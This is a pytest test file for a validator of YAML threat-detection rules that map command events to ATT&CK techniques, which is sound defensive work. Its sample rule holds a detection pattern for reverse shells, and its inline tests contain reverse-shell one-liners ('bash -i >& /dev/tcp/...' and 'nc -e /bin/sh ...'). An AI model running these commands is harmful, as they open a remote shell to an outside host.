"""RuleValidator: schema, file names, regexes, ATT&CK, inline tests, warnings and --strict.

Each rejection is asserted with its exact line and column in the rule text below (the
reference example rule R0010, whose line numbers are listed next to it).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from rule_samples import SPEC_RULE

from ttp_core.rules.diagnostics import Diagnostic, Severity
from ttp_core.rules.validator import (
    RuleReport,
    RuleValidator,
    is_rule_file,
    iter_rule_files,
    mark_duplicate_ids,
)

# Line numbers of SPEC_RULE (tests/unit/rule_samples.py), for reading the assertions below.
#  1 rule_id            6 match:              11 technique_id      16 tests[0]
#  2 rule_version       7   field             12 sub_technique_id  17   expect
#  3 name               8   pattern           13 confidence        18 tests[1]
#  4 description        9 emits:              14 evidence_fields   19   expect
#  5 applies_to        10   - tactic          15 tests:

SPEC_RULE_WITH_COMMENTS = """\
rule_id: R0010                 # required; ^[A-Za-z0-9_-]{1,64}$ (one NATS token); equals the file stem
rule_version: 1                # required int >= 1; part of the tag identity
name: unix_shell_exec          # required
description: Reverse shell or shell-exec primitives.   # optional
applies_to: [command]          # required, non-empty: event source kinds (same token charset)
match:                         # required, see 3.1
  field: command_text
  pattern: '(?i)(?:bash\\s+-i|/dev/tcp/|nc\\s+-e\\s)'
emits:                         # required, non-empty
  - tactic: TA0002             # must exist in the pinned ATT&CK release
    technique_id: T1059        # must exist; not revoked (deprecated = warning)
    sub_technique_id: T1059.004   # optional; must be a child of technique_id
    confidence: 0.9            # 0 < c <= 1
evidence_fields: [command_text]   # optional: payload keys copied into each tag's evidence
tests:                         # optional inline examples; a rule whose own tests fail is rejected
  - event: {command_text: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}
    expect: fire
  - event: {command_text: "ls -la"}
    expect: no_fire
"""  # noqa: E501 (verbatim reference example)

DECNET_RULE = """\
rule_id: R0014
rule_version: 2
name: file_and_directory_discovery
description: Listing files and directories.
applies_to: [command]
match:
  field: command_text
  pattern: '(?:^|\\s)(?:ls|find|dir|tree)(?:\\s|$)'
emits:
  - tactic: TA0007
    technique_id: T1083
    sub_technique_id: null
    confidence: 0.6
evidence_fields: [command_text]
"""


@pytest.fixture(scope="module")
def validator() -> RuleValidator:
    return RuleValidator()


@pytest.fixture(scope="module")
def strict_validator() -> RuleValidator:
    return RuleValidator(strict=True)


def with_line(number: int, new: str, text: str = SPEC_RULE) -> str:
    """`text` with its 1-based line `number` replaced by `new` (may hold several lines)."""
    lines = text.splitlines()
    assert 1 <= number <= len(lines)
    lines[number - 1] = new
    return "\n".join(lines) + "\n"


def without_lines(numbers: set[int], text: str = SPEC_RULE) -> str:
    return "\n".join(line for i, line in enumerate(text.splitlines(), 1) if i not in numbers) + "\n"


def check(validator: RuleValidator, text: str, stem: str | None = "R0010") -> RuleReport:
    return validator.validate_bytes(text.encode(), "rules/R0010.yaml", stem=stem)


def only_error(report: RuleReport) -> Diagnostic:
    assert not report.ok
    assert report.compiled is None
    assert report.content_sha256 is None
    assert len(report.errors) == 1, [str(d) for d in report.diagnostics]
    return report.errors[0]


def at(diagnostic: Diagnostic) -> tuple[int, int]:
    return diagnostic.line, diagnostic.column


# --- formats that must load --------------------------------------------------------------


def test_spec_example_loads_and_its_inline_tests_pass(validator: RuleValidator) -> None:
    report = check(validator, SPEC_RULE)
    assert report.ok
    assert report.diagnostics == ()
    assert report.rule_id == "R0010"
    assert [(t.number, t.expect, t.fired, t.passed) for t in report.tests] == [
        (1, "fire", True, True),
        (2, "no_fire", False, True),
    ]
    assert report.content_sha256 is not None
    assert len(report.content_sha256) == 64


def test_spec_example_with_its_comments_loads_unchanged(validator: RuleValidator) -> None:
    report = check(validator, SPEC_RULE_WITH_COMMENTS)
    assert report.ok
    assert report.diagnostics == ()
    assert report.content_sha256 == check(validator, SPEC_RULE).content_sha256


def test_decnet_tagger_rule_with_explicit_null_sub_technique_loads(
    validator: RuleValidator,
) -> None:
    report = validator.validate_bytes(DECNET_RULE.encode(), "R0014.yaml", stem="R0014")
    assert report.ok, [str(d) for d in report.diagnostics]
    assert report.rule is not None
    assert report.rule.emits[0].sub_technique_id is None


def test_report_reflects_the_source_label_and_text(validator: RuleValidator) -> None:
    report = check(validator, SPEC_RULE)
    assert report.source == "rules/R0010.yaml"
    assert report.text == SPEC_RULE


# --- schema errors ---------------------------------------------------------------------


def test_missing_required_key_is_an_error_at_the_top_mapping(validator: RuleValidator) -> None:
    error = only_error(check(validator, without_lines({3})))
    assert error.code == "schema"
    assert error.message == "missing required key 'name'"
    assert at(error) == (1, 1)


def test_missing_key_in_an_emit_is_an_error_at_that_emit(validator: RuleValidator) -> None:
    error = only_error(check(validator, without_lines({13})))
    assert error.message == "missing required key 'confidence' in emits[0]"
    assert at(error) == (10, 5)


def test_every_missing_required_key_is_reported(validator: RuleValidator) -> None:
    report = check(validator, "rule_id: R0010\n")
    messages = {d.message for d in report.errors}
    assert messages == {
        f"missing required key {key!r}"
        for key in ("rule_version", "name", "applies_to", "match", "emits")
    }
    assert all(at(d) == (1, 1) for d in report.errors)


def test_wrong_type_is_an_error_at_the_value(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(2, 'rule_version: "1"')))
    assert error.code == "schema"
    assert error.message == "rule_version must be an integer, found text"
    assert at(error) == (2, 15)


def test_number_where_text_is_required_suggests_quoting(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(3, "name: 12")))
    assert error.message == "name must be text, found an integer (quote it)"
    assert at(error) == (3, 7)


def test_scalar_where_a_list_is_required_is_an_error_at_the_value(
    validator: RuleValidator,
) -> None:
    error = only_error(check(validator, with_line(5, "applies_to: command")))
    assert error.message == "applies_to must be a list, found text"
    assert at(error) == (5, 13)


def test_confidence_as_text_is_a_type_error(validator: RuleValidator) -> None:
    report = check(validator, with_line(13, '    confidence: "0.9"'))
    assert not report.ok
    assert {at(d) for d in report.errors} == {(13, 17)}


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("1.5", "emits[0].confidence must be <= 1, found 1.5"),
        (
            "0",
            'emits[0].confidence must be > 0, found 0 (0 is the "never emits a fresh tag" '
            "sentinel of lifter rules, `match.kind: lifter:<name>`, only)",
        ),
        ("-0.1", "emits[0].confidence must be > 0, found -0.1"),
        ("1.0000001", "emits[0].confidence must be <= 1, found 1.0000001"),
    ],
)
def test_out_of_range_confidence_is_an_error_at_the_value(
    validator: RuleValidator, value: str, message: str
) -> None:
    error = only_error(check(validator, with_line(13, f"    confidence: {value}")))
    assert error.code == "schema"
    assert error.message == message
    assert at(error) == (13, 17)


@pytest.mark.parametrize("value", ["1", "1.0", "0.0001"])
def test_confidence_bounds_are_exclusive_at_zero_and_inclusive_at_one(
    validator: RuleValidator, value: str
) -> None:
    assert check(validator, with_line(13, f"    confidence: {value}")).ok


@pytest.mark.parametrize(
    "rule_id", ["R/0010", "'R 0010'", "R.0010", "R0010*", "'R0010>'", "x" * 65, "''", "'Ré'"]
)
def test_rule_id_outside_the_token_charset_is_an_error_at_the_value(
    validator: RuleValidator, rule_id: str
) -> None:
    error = only_error(check(validator, with_line(1, f"rule_id: {rule_id}"), stem=None))
    assert error.code == "schema"
    assert "does not match ^[A-Za-z0-9_-]{1,64}$" in error.message
    assert at(error) == (1, 10)


def test_rule_id_of_64_token_characters_is_accepted(validator: RuleValidator) -> None:
    rule_id = "a-b_C9" * 10 + "abcd"
    assert len(rule_id) == 64
    assert check(validator, with_line(1, f"rule_id: {rule_id}"), stem=rule_id).ok


def test_rule_version_below_one_is_an_error(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(2, "rule_version: 0")))
    assert error.message == "rule_version must be >= 1, found 0"
    assert at(error) == (2, 15)


def test_empty_applies_to_is_an_error(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(5, "applies_to: []")))
    assert error.message == "applies_to must not be empty"
    assert at(error) == (5, 13)


def test_source_kind_outside_the_token_charset_is_an_error_at_that_item(
    validator: RuleValidator,
) -> None:
    error = only_error(check(validator, with_line(5, "applies_to: [command, 'http request']")))
    assert at(error) == (5, 23)


def test_leaf_with_two_operators_is_an_error_at_the_leaf(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(8, "  contains: bash\n  startswith: nc")))
    assert "exactly one operator, found contains, startswith" in error.message
    assert at(error) == (7, 3)


def test_leaf_with_no_operator_is_an_error_at_the_leaf(validator: RuleValidator) -> None:
    error = only_error(check(validator, without_lines({8, 15, 16, 17, 18, 19})))
    assert error.message.startswith("a match leaf needs one operator")
    assert at(error) == (7, 3)


def test_misspelled_match_operator_is_an_error_at_the_key_with_a_suggestion(
    validator: RuleValidator,
) -> None:
    report = check(validator, with_line(8, "  patern: bash"))
    assert not report.ok
    misspelt = [d for d in report.errors if "patern" in d.message]
    assert len(misspelt) == 1
    assert misspelt[0].message == "unknown key 'patern' in match (did you mean 'pattern'?)"
    assert at(misspelt[0]) == (8, 3)


def test_unknown_key_in_an_emit_is_an_error_at_the_key(validator: RuleValidator) -> None:
    report = check(validator, with_line(13, "    confidence: 0.9\n    confidense: 0.8"))
    error = only_error(report)
    assert error.message == "unknown key 'confidense' in emits[0] (did you mean 'confidence'?)"
    assert at(error) == (14, 5)


def test_ignore_case_on_a_numeric_operator_is_an_error(validator: RuleValidator) -> None:
    text = with_line(8, "  gt: 3\n  ignore_case: true")
    error = only_error(check(validator, without_lines({16, 17, 18, 19, 20}, text)))
    assert error.message == "ignore_case does not apply to 'gt'"
    assert at(error) == (7, 3)


def test_non_finite_numbers_are_rejected_not_crashed_on(validator: RuleValidator) -> None:
    for operand in ("gt: .inf", "equals: .nan", "in: [1, -.inf]"):
        text = with_line(8, f"  {operand}", without_lines({15, 16, 17, 18, 19}))
        error = only_error(check(validator, text))
        assert error.code == "yaml-value", (operand, str(error))
        assert error.line == 8
        assert error.column in (7, 11, 13), (operand, str(error))


def test_non_finite_number_inside_an_inline_test_event_is_rejected(
    validator: RuleValidator,
) -> None:
    text = with_line(18, "  - event: {command_text: ls, size: .inf}")
    error = only_error(check(validator, text))
    assert error.code == "yaml-value"
    assert at(error) == (18, 37)


def test_several_schema_errors_are_all_reported_in_file_order(validator: RuleValidator) -> None:
    text = with_line(13, "    confidence: 2", with_line(2, "rule_version: x"))
    report = check(validator, text)
    assert [at(d) for d in report.errors] == [(2, 15), (13, 17)]


# --- file name and rule id ---------------------------------------------------------------


def test_rule_id_differing_from_the_file_stem_is_an_error_at_the_rule_id(
    validator: RuleValidator,
) -> None:
    error = only_error(check(validator, SPEC_RULE, stem="R0011"))
    assert error.code == "rule-id-mismatch"
    assert error.message == "rule_id 'R0010' must equal the file name stem 'R0011'"
    assert at(error) == (1, 10)


def test_rule_id_match_is_case_sensitive(validator: RuleValidator) -> None:
    assert only_error(check(validator, SPEC_RULE, stem="r0010")).code == "rule-id-mismatch"


def test_duplicate_rule_id_across_two_files_first_keeps_it_second_names_the_first(
    validator: RuleValidator, tmp_path: Path
) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = tmp_path / "a" / "R0010.yaml"
    second = tmp_path / "b" / "R0010.yaml"
    second.write_text(SPEC_RULE)
    first.write_text(SPEC_RULE.replace("name: unix_shell_exec", "name: first"))
    reports = validator.validate_tree(tmp_path)
    assert [r.source for r in reports] == [str(first), str(second)]
    assert reports[0].ok
    assert reports[0].rule is not None
    assert reports[0].rule.name == "first"
    error = only_error(reports[1])
    assert error.code == "duplicate-rule-id"
    assert error.message == f"rule_id 'R0010' is already defined by {first}"
    assert error.source == str(second)
    assert at(error) == (1, 10)


def test_duplicate_rule_id_is_located_at_the_rule_id_wherever_it_is(
    validator: RuleValidator, tmp_path: Path
) -> None:
    moved = (
        "# leading comment\n\n" + SPEC_RULE.replace("rule_id: R0010\n", "") + "rule_id:   R0010\n"
    )
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "a" / "R0010.yaml").write_text(SPEC_RULE)
    (tmp_path / "b" / "R0010.yaml").write_text(moved)
    reports = validator.validate_tree(tmp_path)
    assert at(only_error(reports[1])) == (21, 12)


def test_a_rejected_first_file_does_not_claim_its_rule_id(
    validator: RuleValidator, tmp_path: Path
) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "a" / "R0010.yaml").write_text(with_line(13, "    confidence: 7"))
    (tmp_path / "b" / "R0010.yaml").write_text(SPEC_RULE)
    first, second = validator.validate_tree(tmp_path)
    assert not first.ok
    assert second.ok


def test_mark_duplicate_ids_keeps_warnings_of_the_rejected_report(
    validator: RuleValidator,
) -> None:
    text = SPEC_RULE + "extra: 1\n"
    one = validator.validate_bytes(text.encode(), "one.yaml")
    two = validator.validate_bytes(text.encode(), "two.yaml")
    marked = mark_duplicate_ids([one, two])
    assert marked[0] is one
    assert sorted(d.code for d in marked[1].diagnostics) == ["duplicate-rule-id", "unknown-key"]
    assert marked[1].warnings[0].code == "unknown-key"


@pytest.mark.parametrize("name", ["R0010.yaml", "a-b_c.yml", "X.yaml", "0.yml", "R0010_v2-x.yaml"])
def test_rule_file_names_are_accepted(name: str) -> None:
    assert is_rule_file(name)


@pytest.mark.parametrize(
    "name",
    [
        ".hidden.yaml",
        "..data",
        "foo.yaml~",
        "4913",
        "x.swp",
        ".R0010.yaml.swp",
        "R 1.yaml",
        "R0010.yaml.bak",
        "R0010.json",
        ".yaml",
        "R.0010.yaml",
        "R0010.YAML",
        "R0010.yaml\n",
        "#R0010.yaml#",
        "",
    ],
)
def test_non_rule_file_names_are_ignored(name: str) -> None:
    assert not is_rule_file(name)


def test_iter_rule_files_skips_hidden_directories_and_non_rule_files(tmp_path: Path) -> None:
    (tmp_path / "..2024_01_01_00_00_00.123").mkdir()
    (tmp_path / "..2024_01_01_00_00_00.123" / "R1.yaml").write_text("x")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "R2.yaml").write_text("x")
    (tmp_path / "sub" / "deeper").mkdir(parents=True)
    (tmp_path / "sub" / "deeper" / "R3.yml").write_text("x")
    (tmp_path / "R4.yaml").write_text("x")
    for junk in ("4913", "R4.yaml~", ".R4.yaml.swp", "..data", "notes.txt"):
        (tmp_path / junk).write_text("x")
    found = [p.relative_to(tmp_path).as_posix() for p in iter_rule_files(tmp_path)]
    assert found == ["R4.yaml", "sub/deeper/R3.yml"]


def test_iter_rule_files_on_a_file_yields_that_file(tmp_path: Path) -> None:
    path = tmp_path / "anything.txt"
    path.write_text("x")
    assert list(iter_rule_files(path)) == [path]


# --- regular expressions -----------------------------------------------------------------


def test_invalid_regex_is_an_error_at_the_pattern(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(8, "  pattern: '(unclosed'")))
    assert error.code == "regex-invalid"
    assert error.message.startswith("invalid regular expression")
    assert at(error) == (8, 12)


def test_invalid_regex_in_a_nested_leaf_is_an_error_at_that_pattern(
    validator: RuleValidator,
) -> None:
    text = with_line(
        7,
        "  all:\n    - contains: bash\n    - not:\n        pattern: 'a[b'",
        without_lines({8, 15, 16, 17, 18, 19}),
    )
    error = only_error(check(validator, text))
    assert error.code == "regex-invalid"
    assert at(error) == (10, 18)


def test_backtracking_only_pattern_is_accepted_with_a_warning_at_the_pattern(
    validator: RuleValidator,
) -> None:
    text = with_line(8, "  pattern: 'bash(?=\\s+-i)'")
    report = check(validator, text)
    assert report.ok
    assert report.errors == ()
    (warning,) = report.warnings
    assert warning.code == "regex-backtracking"
    assert warning.severity is Severity.WARNING
    assert at(warning) == (8, 12)
    assert all(t.passed for t in report.tests)


def test_backreference_pattern_is_accepted_with_a_warning(validator: RuleValidator) -> None:
    text = without_lines({15, 16, 17, 18, 19}, with_line(8, "  pattern: '(\\w)\\1{3}'"))
    report = check(validator, text)
    assert report.ok
    assert [w.code for w in report.warnings] == ["regex-backtracking"]


def test_leaf_without_field_for_a_kind_without_default_is_an_error_at_the_leaf(
    validator: RuleValidator,
) -> None:
    text = without_lines({7}, with_line(5, "applies_to: [command, ssh_banner]"))
    error = only_error(check(validator, text))
    assert error.code == "missing-field"
    assert at(error) == (7, 3)


# --- ATT&CK --------------------------------------------------------------------------


def test_unknown_tactic_is_an_error_at_the_tactic(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(10, "  - tactic: TA0099")))
    assert error.code == "attack-unknown"
    assert error.message == "unknown tactic TA0099 in ATT&CK v18.1"
    assert at(error) == (10, 13)


def test_malformed_tactic_id_is_a_schema_error_at_the_tactic(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(10, "  - tactic: Execution")))
    assert error.code == "schema"
    assert at(error) == (10, 13)


def test_unknown_technique_is_an_error_at_the_technique(validator: RuleValidator) -> None:
    text = without_lines({12}, with_line(11, "    technique_id: T1999"))
    error = only_error(check(validator, text))
    assert error.code == "attack-unknown"
    assert error.message == "unknown technique T1999 in ATT&CK v18.1"
    assert at(error) == (11, 19)


def test_unknown_sub_technique_is_an_error_at_the_sub_technique(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(12, "    sub_technique_id: T1059.999")))
    assert error.code == "attack-unknown"
    assert at(error) == (12, 23)


def test_revoked_technique_is_an_error_naming_its_replacement(validator: RuleValidator) -> None:
    text = without_lines(
        {12, 15, 16, 17, 18, 19},
        with_line(11, "    technique_id: T1002", with_line(10, "  - tactic: TA0010")),
    )
    error = only_error(check(validator, text))
    assert error.code == "attack-revoked"
    assert error.message == "T1002 (Data Compressed) is revoked in ATT&CK v18.1; use T1560"
    assert at(error) == (11, 19)


def test_revoked_sub_technique_is_an_error_at_the_sub_technique(validator: RuleValidator) -> None:
    text = with_line(
        11, "    technique_id: T1053", with_line(12, "    sub_technique_id: T1053.001")
    )
    error = only_error(check(validator, text))
    assert error.code == "attack-revoked"
    assert "use T1053.002" in error.message
    assert at(error) == (12, 23)


def test_deprecated_technique_is_a_warning_and_the_rule_loads(validator: RuleValidator) -> None:
    text = without_lines(
        {12}, with_line(11, "    technique_id: T1026", with_line(10, "  - tactic: TA0011"))
    )
    report = check(validator, text)
    assert report.ok
    (warning,) = report.warnings
    assert warning.code == "attack-deprecated"
    assert warning.severity is Severity.WARNING
    assert warning.message == "T1026 (Multiband Communication) is deprecated in ATT&CK v18.1"
    assert at(warning) == (11, 19)


def test_deprecated_sub_technique_is_a_warning_at_the_sub_technique(
    validator: RuleValidator,
) -> None:
    text = with_line(
        11, "    technique_id: T1053", with_line(12, "    sub_technique_id: T1053.004")
    )
    report = check(validator, text)
    assert report.ok
    assert [(w.code, at(w)) for w in report.warnings] == [("attack-deprecated", (12, 23))]


def test_sub_technique_of_another_technique_is_an_error_at_the_sub_technique(
    validator: RuleValidator,
) -> None:
    error = only_error(check(validator, with_line(12, "    sub_technique_id: T1003.001")))
    assert error.message == "sub_technique_id T1003.001 is not a sub-technique of T1059"
    assert at(error) == (12, 23)


def test_technique_under_a_tactic_it_does_not_belong_to_is_a_warning(
    validator: RuleValidator,
) -> None:
    report = check(validator, with_line(10, "  - tactic: TA0007"))
    assert report.ok
    # Once for the technique and once for the sub-technique, both at the tactic.
    assert [(w.code, at(w)) for w in report.warnings] == [("attack-tactic", (10, 13))] * 2
    assert "(it is under TA0002)" in report.warnings[0].message


def test_each_emit_is_checked_and_located_separately(validator: RuleValidator) -> None:
    text = with_line(
        13,
        "    confidence: 0.9\n"
        "  - tactic: TA0007\n"
        "    technique_id: T1083\n"
        "  - tactic: TA0002\n"
        "    technique_id: T1998\n"
        "    confidence: 0.5",
    )
    report = check(validator, text)
    assert [(d.message, at(d)) for d in report.errors] == [
        ("missing required key 'confidence' in emits[1]", (14, 5)),
    ]
    fixed = text.replace(
        "    technique_id: T1083\n", "    technique_id: T1083\n    confidence: 1\n"
    )
    report = check(validator, fixed)
    assert [(d.code, at(d)) for d in report.errors] == [("attack-unknown", (18, 19))]


# --- inline tests -------------------------------------------------------------------------


def test_failing_inline_test_is_an_error_at_that_test(validator: RuleValidator) -> None:
    text = with_line(18, '  - event: {command_text: "nc -e /bin/sh 10.0.0.1 4444"}')
    error = only_error(check(validator, text))
    assert error.code == "test-failed"
    assert error.message == (
        "inline test 2 expects no_fire but the rule fired on this command event"
    )
    assert at(error) == (18, 5)


def test_inline_test_that_does_not_fire_is_an_error_at_that_test(validator: RuleValidator) -> None:
    text = with_line(16, '  - event: {command_text: "echo hello"}')
    report = check(validator, text)
    error = only_error(report)
    assert (
        error.message
        == "inline test 1 expects fire but the rule did not fire on this command event"
    )
    assert at(error) == (16, 5)
    assert [t.passed for t in report.tests] == [False, True]


def test_inline_test_with_a_source_kind_outside_applies_to_is_an_error(
    validator: RuleValidator,
) -> None:
    text = with_line(19, "    expect: no_fire\n    source_kind: email")
    error = only_error(check(validator, text))
    assert error.code == "tests-kind"
    assert at(error) == (20, 18)


def test_inline_test_runs_against_the_requested_source_kind(validator: RuleValidator) -> None:
    text = with_line(5, "applies_to: [command, payload]")
    text = with_line(19, "    expect: no_fire\n    source_kind: payload", text)
    report = check(validator, text)
    assert report.ok
    assert [t.source_kind for t in report.tests] == ["command", "payload"]


def test_inline_test_with_a_bad_expect_value_is_a_schema_error(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(17, "    expect: fires")))
    assert error.code == "schema"
    assert at(error) == (17, 13)


# --- warnings and --strict ----------------------------------------------------------------


def test_unknown_top_level_key_is_a_warning_with_a_suggestion(validator: RuleValidator) -> None:
    report = check(validator, with_line(4, "descripton: Reverse shell."))
    assert report.ok
    (warning,) = report.warnings
    assert warning.code == "unknown-key"
    assert warning.severity is Severity.WARNING
    assert warning.message == "unknown key 'descripton' is ignored (did you mean 'description'?)"
    assert at(warning) == (4, 1)
    assert report.rule is not None
    assert report.rule.description is None


def test_unknown_top_level_key_without_a_close_match_has_no_suggestion(
    validator: RuleValidator,
) -> None:
    report = check(validator, SPEC_RULE + "owner: soc-team\n")
    (warning,) = report.warnings
    assert warning.message == "unknown key 'owner' is ignored"
    assert at(warning) == (20, 1)


def test_unknown_key_warning_names_a_plural_key_it_resembles(validator: RuleValidator) -> None:
    report = check(validator, with_line(14, "evidence_field: [command_text]"))
    (warning,) = report.warnings
    assert "did you mean 'evidence_fields'?" in warning.message


def test_unknown_key_does_not_change_the_content_hash(validator: RuleValidator) -> None:
    plain = check(validator, SPEC_RULE)
    extra = check(validator, SPEC_RULE + "x_note: hello\n")
    assert extra.ok
    assert extra.content_sha256 == plain.content_sha256


def test_duplicate_source_kind_is_a_warning_at_the_repeat(validator: RuleValidator) -> None:
    report = check(validator, with_line(5, "applies_to: [command, command]"))
    assert report.ok
    assert [(w.code, at(w)) for w in report.warnings] == [("duplicate-kind", (5, 23))]


def test_strict_turns_an_unknown_key_warning_into_an_error(
    strict_validator: RuleValidator,
) -> None:
    report = check(strict_validator, with_line(4, "descripton: Reverse shell."))
    error = only_error(report)
    assert error.code == "unknown-key"
    assert error.severity is Severity.ERROR
    assert error.message.endswith("(did you mean 'description'?) (--strict)")
    assert at(error) == (4, 1)
    assert report.warnings == ()


def test_strict_turns_a_deprecated_technique_into_an_error(
    strict_validator: RuleValidator,
) -> None:
    text = without_lines(
        {12}, with_line(11, "    technique_id: T1026", with_line(10, "  - tactic: TA0011"))
    )
    error = only_error(check(strict_validator, text))
    assert error.code == "attack-deprecated"
    assert at(error) == (11, 19)


def test_strict_turns_a_backtracking_pattern_warning_into_an_error(
    strict_validator: RuleValidator,
) -> None:
    error = only_error(check(strict_validator, with_line(8, "  pattern: 'bash(?=\\s+-i)'")))
    assert error.code == "regex-backtracking"
    assert at(error) == (8, 12)


def test_strict_accepts_a_rule_without_warnings(strict_validator: RuleValidator) -> None:
    assert check(strict_validator, SPEC_RULE).ok


def test_diagnostics_are_sorted_by_position(validator: RuleValidator) -> None:
    text = with_line(4, "descripton: x", SPEC_RULE + "zzz: 1\n")
    text = with_line(10, "  - tactic: TA0007", text)
    report = check(validator, text)
    assert report.ok
    assert [at(d) for d in report.diagnostics] == [(4, 1), (10, 13), (10, 13), (20, 1)]


def test_warnings_alone_keep_the_compiled_rule(validator: RuleValidator) -> None:
    report = check(validator, SPEC_RULE + "zzz: 1\n")
    assert report.ok
    assert report.compiled is not None
    assert report.content_sha256 == report.compiled.content_sha256


# --- external (lifter) rules --------------------------------------------------------------


def test_external_lifter_rule_validates_structurally(validator: RuleValidator) -> None:
    text = with_line(
        7, "  kind: lifter:beaconing\n  window_s: 300", without_lines({8, 15, 16, 17, 18, 19})
    )
    report = check(validator, text)
    assert report.ok, [str(d) for d in report.diagnostics]
    assert report.compiled is not None
    assert report.compiled.is_external
    assert report.compiled.programs == {}


def test_inline_tests_of_an_external_rule_are_a_warning(validator: RuleValidator) -> None:
    text = without_lines({8}, with_line(7, "  kind: lifter:beaconing"))
    report = check(validator, text)
    assert report.ok
    assert [(w.code, at(w)) for w in report.warnings] == [("tests-external", (15, 3))]


def test_malformed_lifter_kind_is_a_schema_error(validator: RuleValidator) -> None:
    text = with_line(7, "  kind: beaconing", without_lines({8, 15, 16, 17, 18, 19}))
    error = only_error(check(validator, text))
    assert at(error) == (7, 9)


# --- text PostgreSQL, UTF-8 or JSON cannot hold ------------------------------------------


def test_nul_escape_in_name_is_an_error_at_the_name(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(3, 'name: "unix\\0shell"')))
    assert error.code == "text-nul"
    assert at(error) == (3, 7)
    assert "NUL" in error.message and "PostgreSQL" in error.message


@pytest.mark.parametrize("escape", ["\\0", "\\x00", "\\u0000"])
def test_nul_in_an_inline_test_event_is_an_error_at_that_value(
    validator: RuleValidator, escape: str
) -> None:
    text = with_line(16, f'  - event: {{command_text: "bash -i{escape}"}}')
    error = only_error(check(validator, text))
    assert error.code == "text-nul"
    assert error.message.startswith("tests[0].event.command_text contains a NUL")
    assert at(error) == (16, 27)


def test_nul_in_a_mapping_key_is_an_error_at_the_key(validator: RuleValidator) -> None:
    text = with_line(16, '  - event: {"command\\0text": "bash -i"}')
    error = only_error(check(validator, text))
    assert error.code == "text-nul"
    assert error.message.startswith("key 'command\\x00text' in tests[0].event contains a NUL")
    assert at(error) == (16, 13)


def test_nul_in_an_ignored_unknown_key_is_still_an_error(validator: RuleValidator) -> None:
    report = check(validator, SPEC_RULE + 'notes: "a\\0b"\n')
    assert [(d.code, at(d)) for d in report.errors] == [("text-nul", (20, 8))]
    assert [d.code for d in report.warnings] == ["unknown-key"]


@pytest.mark.parametrize(
    ("line", "new", "where", "position"),
    [
        (4, 'description: "x\\ud800"', "description", (4, 14)),
        (7, '  field: "command\\udfff_text"', "match.field", (7, 10)),
        (14, 'evidence_fields: ["\\udc80"]', "evidence_fields[0]", (14, 19)),
        (17, '    expect: "fire\\ud83d"', "tests[0].expect", (17, 13)),
    ],
)
def test_lone_surrogate_anywhere_is_an_error_at_the_value(
    validator: RuleValidator, line: int, new: str, where: str, position: tuple[int, int]
) -> None:
    error = only_error(check(validator, with_line(line, new)))
    assert error.code == "text-surrogate"
    assert error.message.startswith(f"{where} contains a lone surrogate U+")
    assert at(error) == position


def test_surrogate_pair_escape_is_the_character_it_spells(validator: RuleValidator) -> None:
    escaped = check(validator, with_line(4, 'description: "shell \\ud83d\\ude00"'))
    literal = check(validator, with_line(4, "description: shell \U0001f600"))
    assert escaped.ok and literal.ok
    assert escaped.rule is not None and escaped.rule.description == "shell \U0001f600"
    assert escaped.content_sha256 == literal.content_sha256


def test_description_longer_than_the_cap_is_an_error(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(4, "description: " + "d" * 4001)))
    assert error.message == "description is 4,001 characters long; at most 4,000 characters"
    assert at(error) == (4, 14)


def test_name_longer_than_the_cap_is_an_error(validator: RuleValidator) -> None:
    error = only_error(check(validator, with_line(3, "name: " + "n" * 201)))
    assert error.message == "name is 201 characters long; at most 200 characters"


def test_huge_string_in_a_test_event_is_an_error(validator: RuleValidator) -> None:
    text = with_line(18, "  - event: {command_text: " + "x" * 65_537 + "}")
    error = only_error(check(validator, text))
    assert error.code == "text-too-long"
    assert error.message == (
        "tests[1].event.command_text is 65,537 characters long; text in a rule is at most 65,536"
    )
    assert at(error) == (18, 27)


def test_huge_list_in_a_test_event_is_an_error(validator: RuleValidator) -> None:
    items = ", ".join(["1"] * 1001)
    error = only_error(check(validator, with_line(18, f"  - event: {{argv: [{items}]}}")))
    assert error.code == "list-too-long"
    assert error.message == (
        "tests[1].event.argv has 1,001 items; lists in a rule hold at most 1,000"
    )
    assert at(error) == (18, 19)


def test_aliased_text_that_expands_past_the_cap_is_an_error(validator: RuleValidator) -> None:
    # 60,000 characters written once, referenced 20 times: 1.2 M characters of JSON.
    big = "y" * 60_000
    refs = ", ".join(["*big"] * 20)
    text = with_line(18, f"  - event: {{a: &big {big}, b: [{refs}]}}")
    error = only_error(check(validator, text))
    assert error.code == "too-large"
    assert "aliases" in error.message


def test_every_valid_rule_is_storable_text(validator: RuleValidator) -> None:
    """What validation accepts encodes as UTF-8 and holds no NUL: PostgreSQL takes it."""
    import json

    for escape in ("\\u00e9", "\\U0001F600", "\\ud83d\\ude00", "\\t", "\\x7f"):
        report = check(validator, with_line(4, f'description: "a{escape}b"'))
        assert report.ok, [str(d) for d in report.diagnostics]
        assert report.rule is not None
        encoded = json.dumps(report.rule.normalised(), ensure_ascii=False).encode("utf-8")
        assert b"\x00" not in encoded and b"\\u0000" not in encoded
